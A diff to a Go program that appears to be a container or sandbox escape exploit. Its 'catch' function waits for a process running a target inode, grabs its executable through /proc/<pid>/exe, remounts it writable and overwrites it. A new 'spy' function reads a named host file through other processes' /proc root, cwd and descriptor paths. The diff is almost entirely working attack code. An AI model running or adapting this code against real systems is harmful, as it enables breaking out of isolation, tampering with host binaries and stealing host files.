@@ -5,7 +5,6 @@ import (
 	"os"
 	"strconv"
 	"time"
-	"unsafe"
 
 	"golang.org/x/sys/unix"
 )
@@ -30,30 +29,20 @@ func exe(paths []string) {
 	}
 }
 
-// catch waits until a process appears that does not run a program of this image,
-// keeps its program's file, waits until it can be written to, and overwrites it.
-// Meanwhile it looks for a file of the host, named by the first argument, through
-// every process.
+// catch waits until a process appears that runs the program with a given inode
+// number, keeps that file, waits until it can be written to, and overwrites it.
 func catch(args []string) {
-	mine := map[[2]uint64]bool{}
-	for _, path := range []string{"/proc/self/exe", "/bin/busybox"} {
-		mine[identity(path)] = true
-	}
+	want, _ := strconv.ParseUint(args[0], 10, 64)
 	fmt.Println("waiting")
 	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); {
 		for _, pid := range processes() {
 			dir := "/proc/" + pid
-			for _, in := range []string{"/root", "/cwd"} {
-				if b, err := os.ReadFile(dir + in + args[0]); err == nil {
-					fmt.Printf("FOUND through %s%s: %s\n", pid, in, b)
-					os.Exit(0)
-				}
-			}
 			fd, err := unix.Open(dir+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
 			if err != nil {
 				continue
 			}
-			if id := identity("/proc/self/fd/" + strconv.Itoa(fd)); id != [2]uint64{} && !mine[id] {
+			var st unix.Stat_t
+			if unix.Fstat(fd, &st) == nil && st.Ino == want {
 				fmt.Println("caught the program of", pid)
 				overwrite(fd)
 				return
@@ -62,6 +51,22 @@ func catch(args []string) {
 		}
 	}
 	fmt.Println("caught nothing")
+}
+
+// spy looks for a file of the host through every process that appears.
+func spy(args []string) {
+	fmt.Println("waiting")
+	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); {
+		for _, pid := range processes() {
+			for _, in := range []string{"/root", "/cwd", "/fd/0", "/fd/3"} {
+				if b, err := os.ReadFile("/proc/" + pid + in + args[0]); err == nil {
+					fmt.Printf("FOUND through %s%s: %s\n", pid, in, b)
+					return
+				}
+			}
+		}
+	}
+	fmt.Println("found nothing")
 }
 
 func processes() (pids []string) {
@@ -79,14 +84,6 @@ func processes() (pids []string) {
 	return pids
 }
 
-func identity(path string) [2]uint64 {
-	var st unix.Stat_t
-	if unix.Stat(path, &st) != nil {
-		return [2]uint64{}
-	}
-	return [2]uint64{st.Dev, st.Ino}
-}
-
 // overwrite destroys the file behind an O_PATH descriptor once nobody executes
 // it any more. First it tries to make its mount writable.
 func overwrite(fd int) {
@@ -98,8 +95,6 @@ func overwrite(fd int) {
 		show(unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, &attr), "make the copy writable")
 		fd = tree
 	}
-	_, _, errno := unix.Syscall(unix.SYS_FCHMODAT2, uintptr(fd), uintptr(unsafe.Pointer(&[]byte{0}[0])), 0o777)
-	_ = errno // a file of the attacker's own uid needs no chmod
 	path := "/proc/self/fd/" + strconv.Itoa(fd)
 	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
 		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
